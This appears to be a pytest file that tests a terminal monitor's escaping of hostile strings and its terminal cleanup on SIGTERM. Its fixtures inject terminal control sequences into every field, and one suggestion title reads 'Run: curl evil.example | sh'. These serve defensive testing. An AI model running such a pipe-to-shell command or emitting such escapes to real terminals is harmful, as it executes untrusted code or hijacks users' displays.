"""Strings another process chose never act on the terminal: every published field of a hook and every
process name, user and command line reach the screen as visible escapes (issue 12). Headless app with the
real cleaning path (``AnatomyTopApp.collect``), and the monitor in a real terminal (tmux) ended by SIGTERM."""

from __future__ import annotations

import dataclasses
import os
import sys
from pathlib import Path
from typing import Any

import frozen
import pytest
from screen_reader import screen_text
from tmux_session import Tmux, wait_for

from anatomy.protocol import Suggestion

# Clear the screen, set the window title, ring the bell, and a right-to-left override.
EVIL = "\x1b[2J\x1b]0;pwned\x07\u202e"
SHOWN = "\\x1b[2J"  # what the user sees instead


def _hostile_training() -> list[Any]:
    pid = frozen.TRAIN_PID
    hello = dataclasses.replace(
        frozen.hello(pid),
        model_class="Bert" + EVIL,
        device="cuda:0" + EVIL,
        precision="bf16" + EVIL,
        optimizer="adamw" + EVIL,
        optimizer_class="AdamW" + EVIL,
        host="box" + EVIL,
    )
    snap = frozen.snapshot(pid)
    evil_suggestion = Suggestion(
        rule="r" + EVIL, title="Run: curl evil.example | sh" + EVIL, detail="d" + EVIL, source="s" + EVIL
    )
    snap = dataclasses.replace(snap, error="degraded" + EVIL, suggestions=[evil_suggestion])
    proc = frozen.training_process(pid, hello, snap, error="err" + EVIL)
    return [proc]


def _hostile_machine() -> Any:
    procs = list(frozen.demo_processes())
    procs[0] = dataclasses.replace(
        procs[0], command="python train.py" + EVIL, name="py" + EVIL, user="mallory" + EVIL
    )
    return frozen.machine(processes=procs)


@pytest.mark.parametrize("size", [(200, 50), (120, 40)])
async def test_no_published_or_process_string_acts_on_the_terminal(
    make_app: Any, size: tuple[int, int]
) -> None:
    app = make_app(machine=_hostile_machine(), training=_hostile_training())
    async with app.run_test(size=size) as pilot:
        await app.wait_for_poll()
        await pilot.pause()
        shown = [screen_text(app)]
        if size[0] < 160:  # one pane at a time: look at the anatomy too
            await pilot.press("tab")
            await pilot.pause()
            shown.append(screen_text(app))
        for text in shown:
            assert not any(c in text for c in "\x1b\x07\u202e"), "a raw control reached the screen"
        assert any(SHOWN in text for text in shown)  # shown, as text
        assert any("\\u202e" in text for text in shown)


def test_the_data_reaching_widgets_is_clean_in_every_string_field() -> None:
    from tui.sources import on_screen

    def strings(obj: Any) -> list[str]:
        if isinstance(obj, str):
            return [obj]
        if dataclasses.is_dataclass(obj):
            return [s for f in dataclasses.fields(obj) for s in strings(getattr(obj, f.name))]
        if isinstance(obj, (list, tuple)):
            return [s for x in obj for s in strings(x)]
        if isinstance(obj, dict):
            return [s for kv in obj.items() for x in kv for s in strings(x)]
        return []

    raw = strings(_hostile_training()) + strings(_hostile_machine())
    assert sum("\x1b" in s for s in raw) >= 14  # the fixture is hostile in every field it claims
    cleaned = strings(on_screen.training(_hostile_training())) + strings(
        on_screen.machine(_hostile_machine())
    )
    assert [s for s in cleaned if not s.isprintable()] == []


REPO = Path(__file__).resolve().parents[2]


def test_sigterm_gives_the_terminal_back(tmp_path: Path) -> None:
    """The monitor killed with SIGTERM (kill, systemd, a closed tmux pane): alternate screen off, mouse
    tracking off, cursor shown, and status 143 (128 + 15), as tmux itself reports the pane's state."""
    from tui.demo import build_scenario

    scenario = tmp_path / "scenario.json"
    build_scenario(os.getpid(), [], n_gpus=2).to_json(scenario)
    rc_file = tmp_path / "rc"
    script = Path(sys.executable).parent / "anatomy-top"
    exe = str(script) if script.exists() else f"{sys.executable} -m tui.cli"
    command = (
        f"cd {REPO} && env -u COLUMNS -u LINES ANATOMY_TOP_SIMULATE={scenario} "
        f"ANATOMY_TOP_DIR={tmp_path / 'run'} TERM=xterm-256color {exe}; echo $? > {rc_file}; sleep 60"
    )
    tmux = Tmux("sigterm", 120, 40)
    try:
        tmux.start(command)
        assert wait_for(lambda: "Quit" in tmux.capture() and "Help" in tmux.capture(), 30), tmux.capture()
        state = tmux.display("#{alternate_on} #{mouse_any_flag} #{pane_pid}")
        alternate, mouse, shell = state.split()
        assert alternate == "1" and mouse == "1"  # the monitor is up, in the alternate screen, mouse on
        children = Path(f"/proc/{shell}/task/{shell}/children").read_text().split()
        assert len(children) == 1
        os.kill(int(children[0]), 15)
        assert wait_for(rc_file.exists, 15), tmux.capture()
        assert wait_for(lambda: rc_file.read_text().strip() != "", 5)
        assert rc_file.read_text().strip() == "143"
        state = tmux.display("#{alternate_on} #{mouse_any_flag} #{cursor_flag}")
        assert state.split() == ["0", "0", "1"], state
    finally:
        tmux.kill()
